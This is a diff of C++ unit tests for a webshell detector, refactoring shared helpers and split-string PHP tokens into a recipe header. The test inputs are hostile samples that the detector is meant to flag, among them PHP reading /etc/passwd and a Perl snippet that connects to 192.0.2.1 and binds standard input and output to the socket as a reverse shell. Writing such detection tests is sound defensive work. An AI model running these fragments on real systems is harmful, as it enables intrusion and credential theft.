@@ -6,8 +6,8 @@
 #include <string>
 #include <vector>
 
-#include "agent/match/webshell/analysis.h"
 #include "agent/match/webshell/form_fields.h"
+#include "tests/unit/match/webshell_recipe.h"
 
 namespace konseki::webshell {
 namespace {
@@ -17,19 +17,6 @@ using testing::Contains;
 using testing::Ge;
 using testing::Lt;
 using testing::Not;
-
-const std::string kPhp = std::string("<") + "?php ";
-const std::string kPost = std::string("$_PO") + "ST";
-const std::string kEval = std::string("ev") + "al";
-
-std::vector<std::string> seen_in(const std::string& code) {
-  std::vector<std::string> names;
-  for (const Witness& witness : analyse(kPhp + code, "a.php").witnesses)
-    names.push_back(witness.name);
-  return names;
-}
-
-int score_of(const std::string& code) { return analyse(kPhp + code, "a.php").score(); }
 
 TEST(WebshellDeeds, AccountsOfTheSystem) {
   EXPECT_THAT(seen_in("$f = fopen('/etc/pass" + std::string("wd', 'r'); echo fread($f, 9);")),
@@ -99,14 +86,11 @@ TEST(WebshellDeeds, ProgramsThatStandInAScriptAreNoCommandsOfARequest) {
 
 TEST(WebshellDeeds, ConnectionsAsStandardInput) {
   const auto perl = [](const std::string& code) {
-    const Judgement judgement = analyse(
+    return seen_in_page(
         "#!/usr/bin/perl\nuse Socket; socket(S, PF_INET, SOCK_STREAM, 6); "
         "connect(S, sockaddr_in(80, inet_aton('192.0.2.1'))); " +
             code,
         "a.pl");
-    std::vector<std::string> names;
-    for (const Witness& witness : judgement.witnesses) names.push_back(witness.name);
-    return names;
   };
   EXPECT_THAT(perl("open(STDIN, \"<&S\"); open(STDOUT, \">&S\");"), Contains("code.reverse"));
   EXPECT_THAT(perl("open(STDIN, \"<&SAVEIN\"); open(LOG, \">&STDERR\");"),
@@ -391,12 +375,6 @@ TEST(WebshellDeeds, ArgumentsOfTheCommandLine) {
   };
   EXPECT_THAT(seen(kPhp + code), Contains("code.include_input"));
   EXPECT_THAT(seen("#!/usr/bin/env php\n" + kPhp + code), Not(Contains("code.include_input")));
-}
-
-std::vector<std::string> seen_in_page(const std::string& page, const std::string& name) {
-  std::vector<std::string> names;
-  for (const Witness& witness : analyse(page, name).witnesses) names.push_back(witness.name);
-  return names;
 }
 
 TEST(WebshellPages, ColdFusion) {
